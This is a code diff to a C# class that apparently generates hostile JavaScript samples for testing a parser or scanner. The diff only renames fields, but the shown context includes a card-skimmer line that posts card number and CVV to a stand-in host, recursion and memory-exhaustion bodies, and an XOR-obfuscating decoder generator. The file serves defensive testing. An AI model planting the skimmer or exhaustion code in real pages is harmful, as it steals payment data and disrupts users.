@@ -11,7 +11,7 @@ public static class HostileTexts
     private const string Skimmer = "document.forms[0].onsubmit=function(){fetch('https://drop.example/x.gif',{method:'POST',body:document.querySelector('#card_number').value+document.querySelector('[name=cvv]').value});};\n";
 
     // What nests where it stands: what opens, and what closes.
-    private static readonly (string Open, string Close)[] _nesting =
+    private static readonly (string Open, string Close)[] Nesting =
     [
         ("(", ")"), ("[", "]"), ("a(", ")"), ("{", "}"), ("function f(){", "}"), ("()=>", "1"), ("x=>({a:", "})"), ("class A{m(){", "}}"),
         ("`${", "}`"), ("!", "1"), ("-+", "1"), ("typeof ", "1"),
@@ -22,7 +22,7 @@ public static class HostileTexts
     ];
 
     // What repeats in a row.
-    private static readonly string[] _rows =
+    private static readonly string[] Rows =
     [
         "<!--\n", "\n-->", "/**/<!--\n", "\n--> x\n", "a+", "a.b", ".c()", "?.d", "a;", "'x'+", "\\u0061", "/a/;", "`x`", "//\n", "/*", "*/",
         "<!-- -->\n", "a=>", "#a in ", "@x ", "\u2028", "0x", "1_", "async ", "get ", "set ",
@@ -31,7 +31,7 @@ public static class HostileTexts
     ];
 
     // What an interpreter does for whoever runs it, in native recursion, loops or memory.
-    private static readonly string[] _bodies =
+    private static readonly string[] Bodies =
     [
         "var o={toString:function(){return o+''}};return o+''",
         "var a=[];for(var i=0;i<60000;i++)a=[a];return a.toString()",
@@ -94,8 +94,8 @@ public static class HostileTexts
             {
                 0 => ("nested", Nested(random)),
                 1 => ("row", Row(random)),
-                2 => ("interpreter", Packer.Replace("BODY", Pick(random, _bodies), StringComparison.Ordinal)),
-                3 => ("interpreter in a skimmer", Skimmer + Packer.Replace("BODY", Pick(random, _bodies), StringComparison.Ordinal)),
+                2 => ("interpreter", Packer.Replace("BODY", Pick(random, Bodies), StringComparison.Ordinal)),
+                3 => ("interpreter in a skimmer", Skimmer + Packer.Replace("BODY", Pick(random, Bodies), StringComparison.Ordinal)),
                 4 => ("row in a skimmer", Row(random) + "\n" + Skimmer),
                 5 => ("decoder", Decoder(random)),
                 6 when honest.Count > 0 => ("mutated", Mutated(random, honest[random.Next(honest.Count)])),
@@ -122,8 +122,8 @@ public static class HostileTexts
     private static string Nested(Random random)
     {
         var depth = Depth(random);
-        var (open, close) = _nesting[random.Next(_nesting.Length)];
-        var (other, shut) = random.Next(3) == 0 ? _nesting[random.Next(_nesting.Length)] : (open, close);
+        var (open, close) = Nesting[random.Next(Nesting.Length)];
+        var (other, shut) = random.Next(3) == 0 ? Nesting[random.Next(Nesting.Length)] : (open, close);
         var text = new StringBuilder("var a,b;a=");
         for (var level = 0; level < depth; level++) text.Append(level % 2 == 0 ? open : other);
         text.Append(random.Next(4) == 0 ? "" : "1");
@@ -136,7 +136,7 @@ public static class HostileTexts
     }
 
     private static string Row(Random random) =>
-        new StringBuilder().Insert(0, _rows[random.Next(_rows.Length)], Depth(random)).Append("a=1").ToString();
+        new StringBuilder().Insert(0, Rows[random.Next(Rows.Length)], Depth(random)).Append("a=1").ToString();
 
     private static string Markup(Random random)
     {
@@ -151,7 +151,7 @@ public static class HostileTexts
     private static string Decoder(Random random)
     {
         var text = new StringBuilder("function d(x){var s='';for(var i=0;i<x.length;i++){s+=String.fromCharCode(x.charCodeAt(i)^")
-            .Append(random.Next(1, 120)).Append(");}").Append(Pick(random, _bodies).Replace("return ", "s+=", StringComparison.Ordinal))
+            .Append(random.Next(1, 120)).Append(");}").Append(Pick(random, Bodies).Replace("return ", "s+=", StringComparison.Ordinal))
             .Append(";return s;}\n");
         for (var call = 0; call < random.Next(1, 60); call++)
             text.Append(CultureInfo.InvariantCulture, $"window['k{call}']=d('{Convert.ToHexString(Bytes(random, 12))}');\n");
@@ -167,8 +167,8 @@ public static class HostileTexts
             switch (random.Next(6))
             {
                 case 0: text.Remove(at, Math.Min(text.Length - at, random.Next(1, 40))); break;
-                case 1: text.Insert(at, _rows[random.Next(_rows.Length)]); break;
-                case 2: text.Insert(at, _nesting[random.Next(_nesting.Length)].Open); break;
+                case 1: text.Insert(at, Rows[random.Next(Rows.Length)]); break;
+                case 2: text.Insert(at, Nesting[random.Next(Nesting.Length)].Open); break;
                 case 3: text[at] = (char)random.Next(0x10000); break;
                 case 4: text.Insert(at, text.ToString(at, Math.Min(text.Length - at, random.Next(1, 2_000)))); break;
                 default: text[at] = (char)random.Next(32, 127); break;
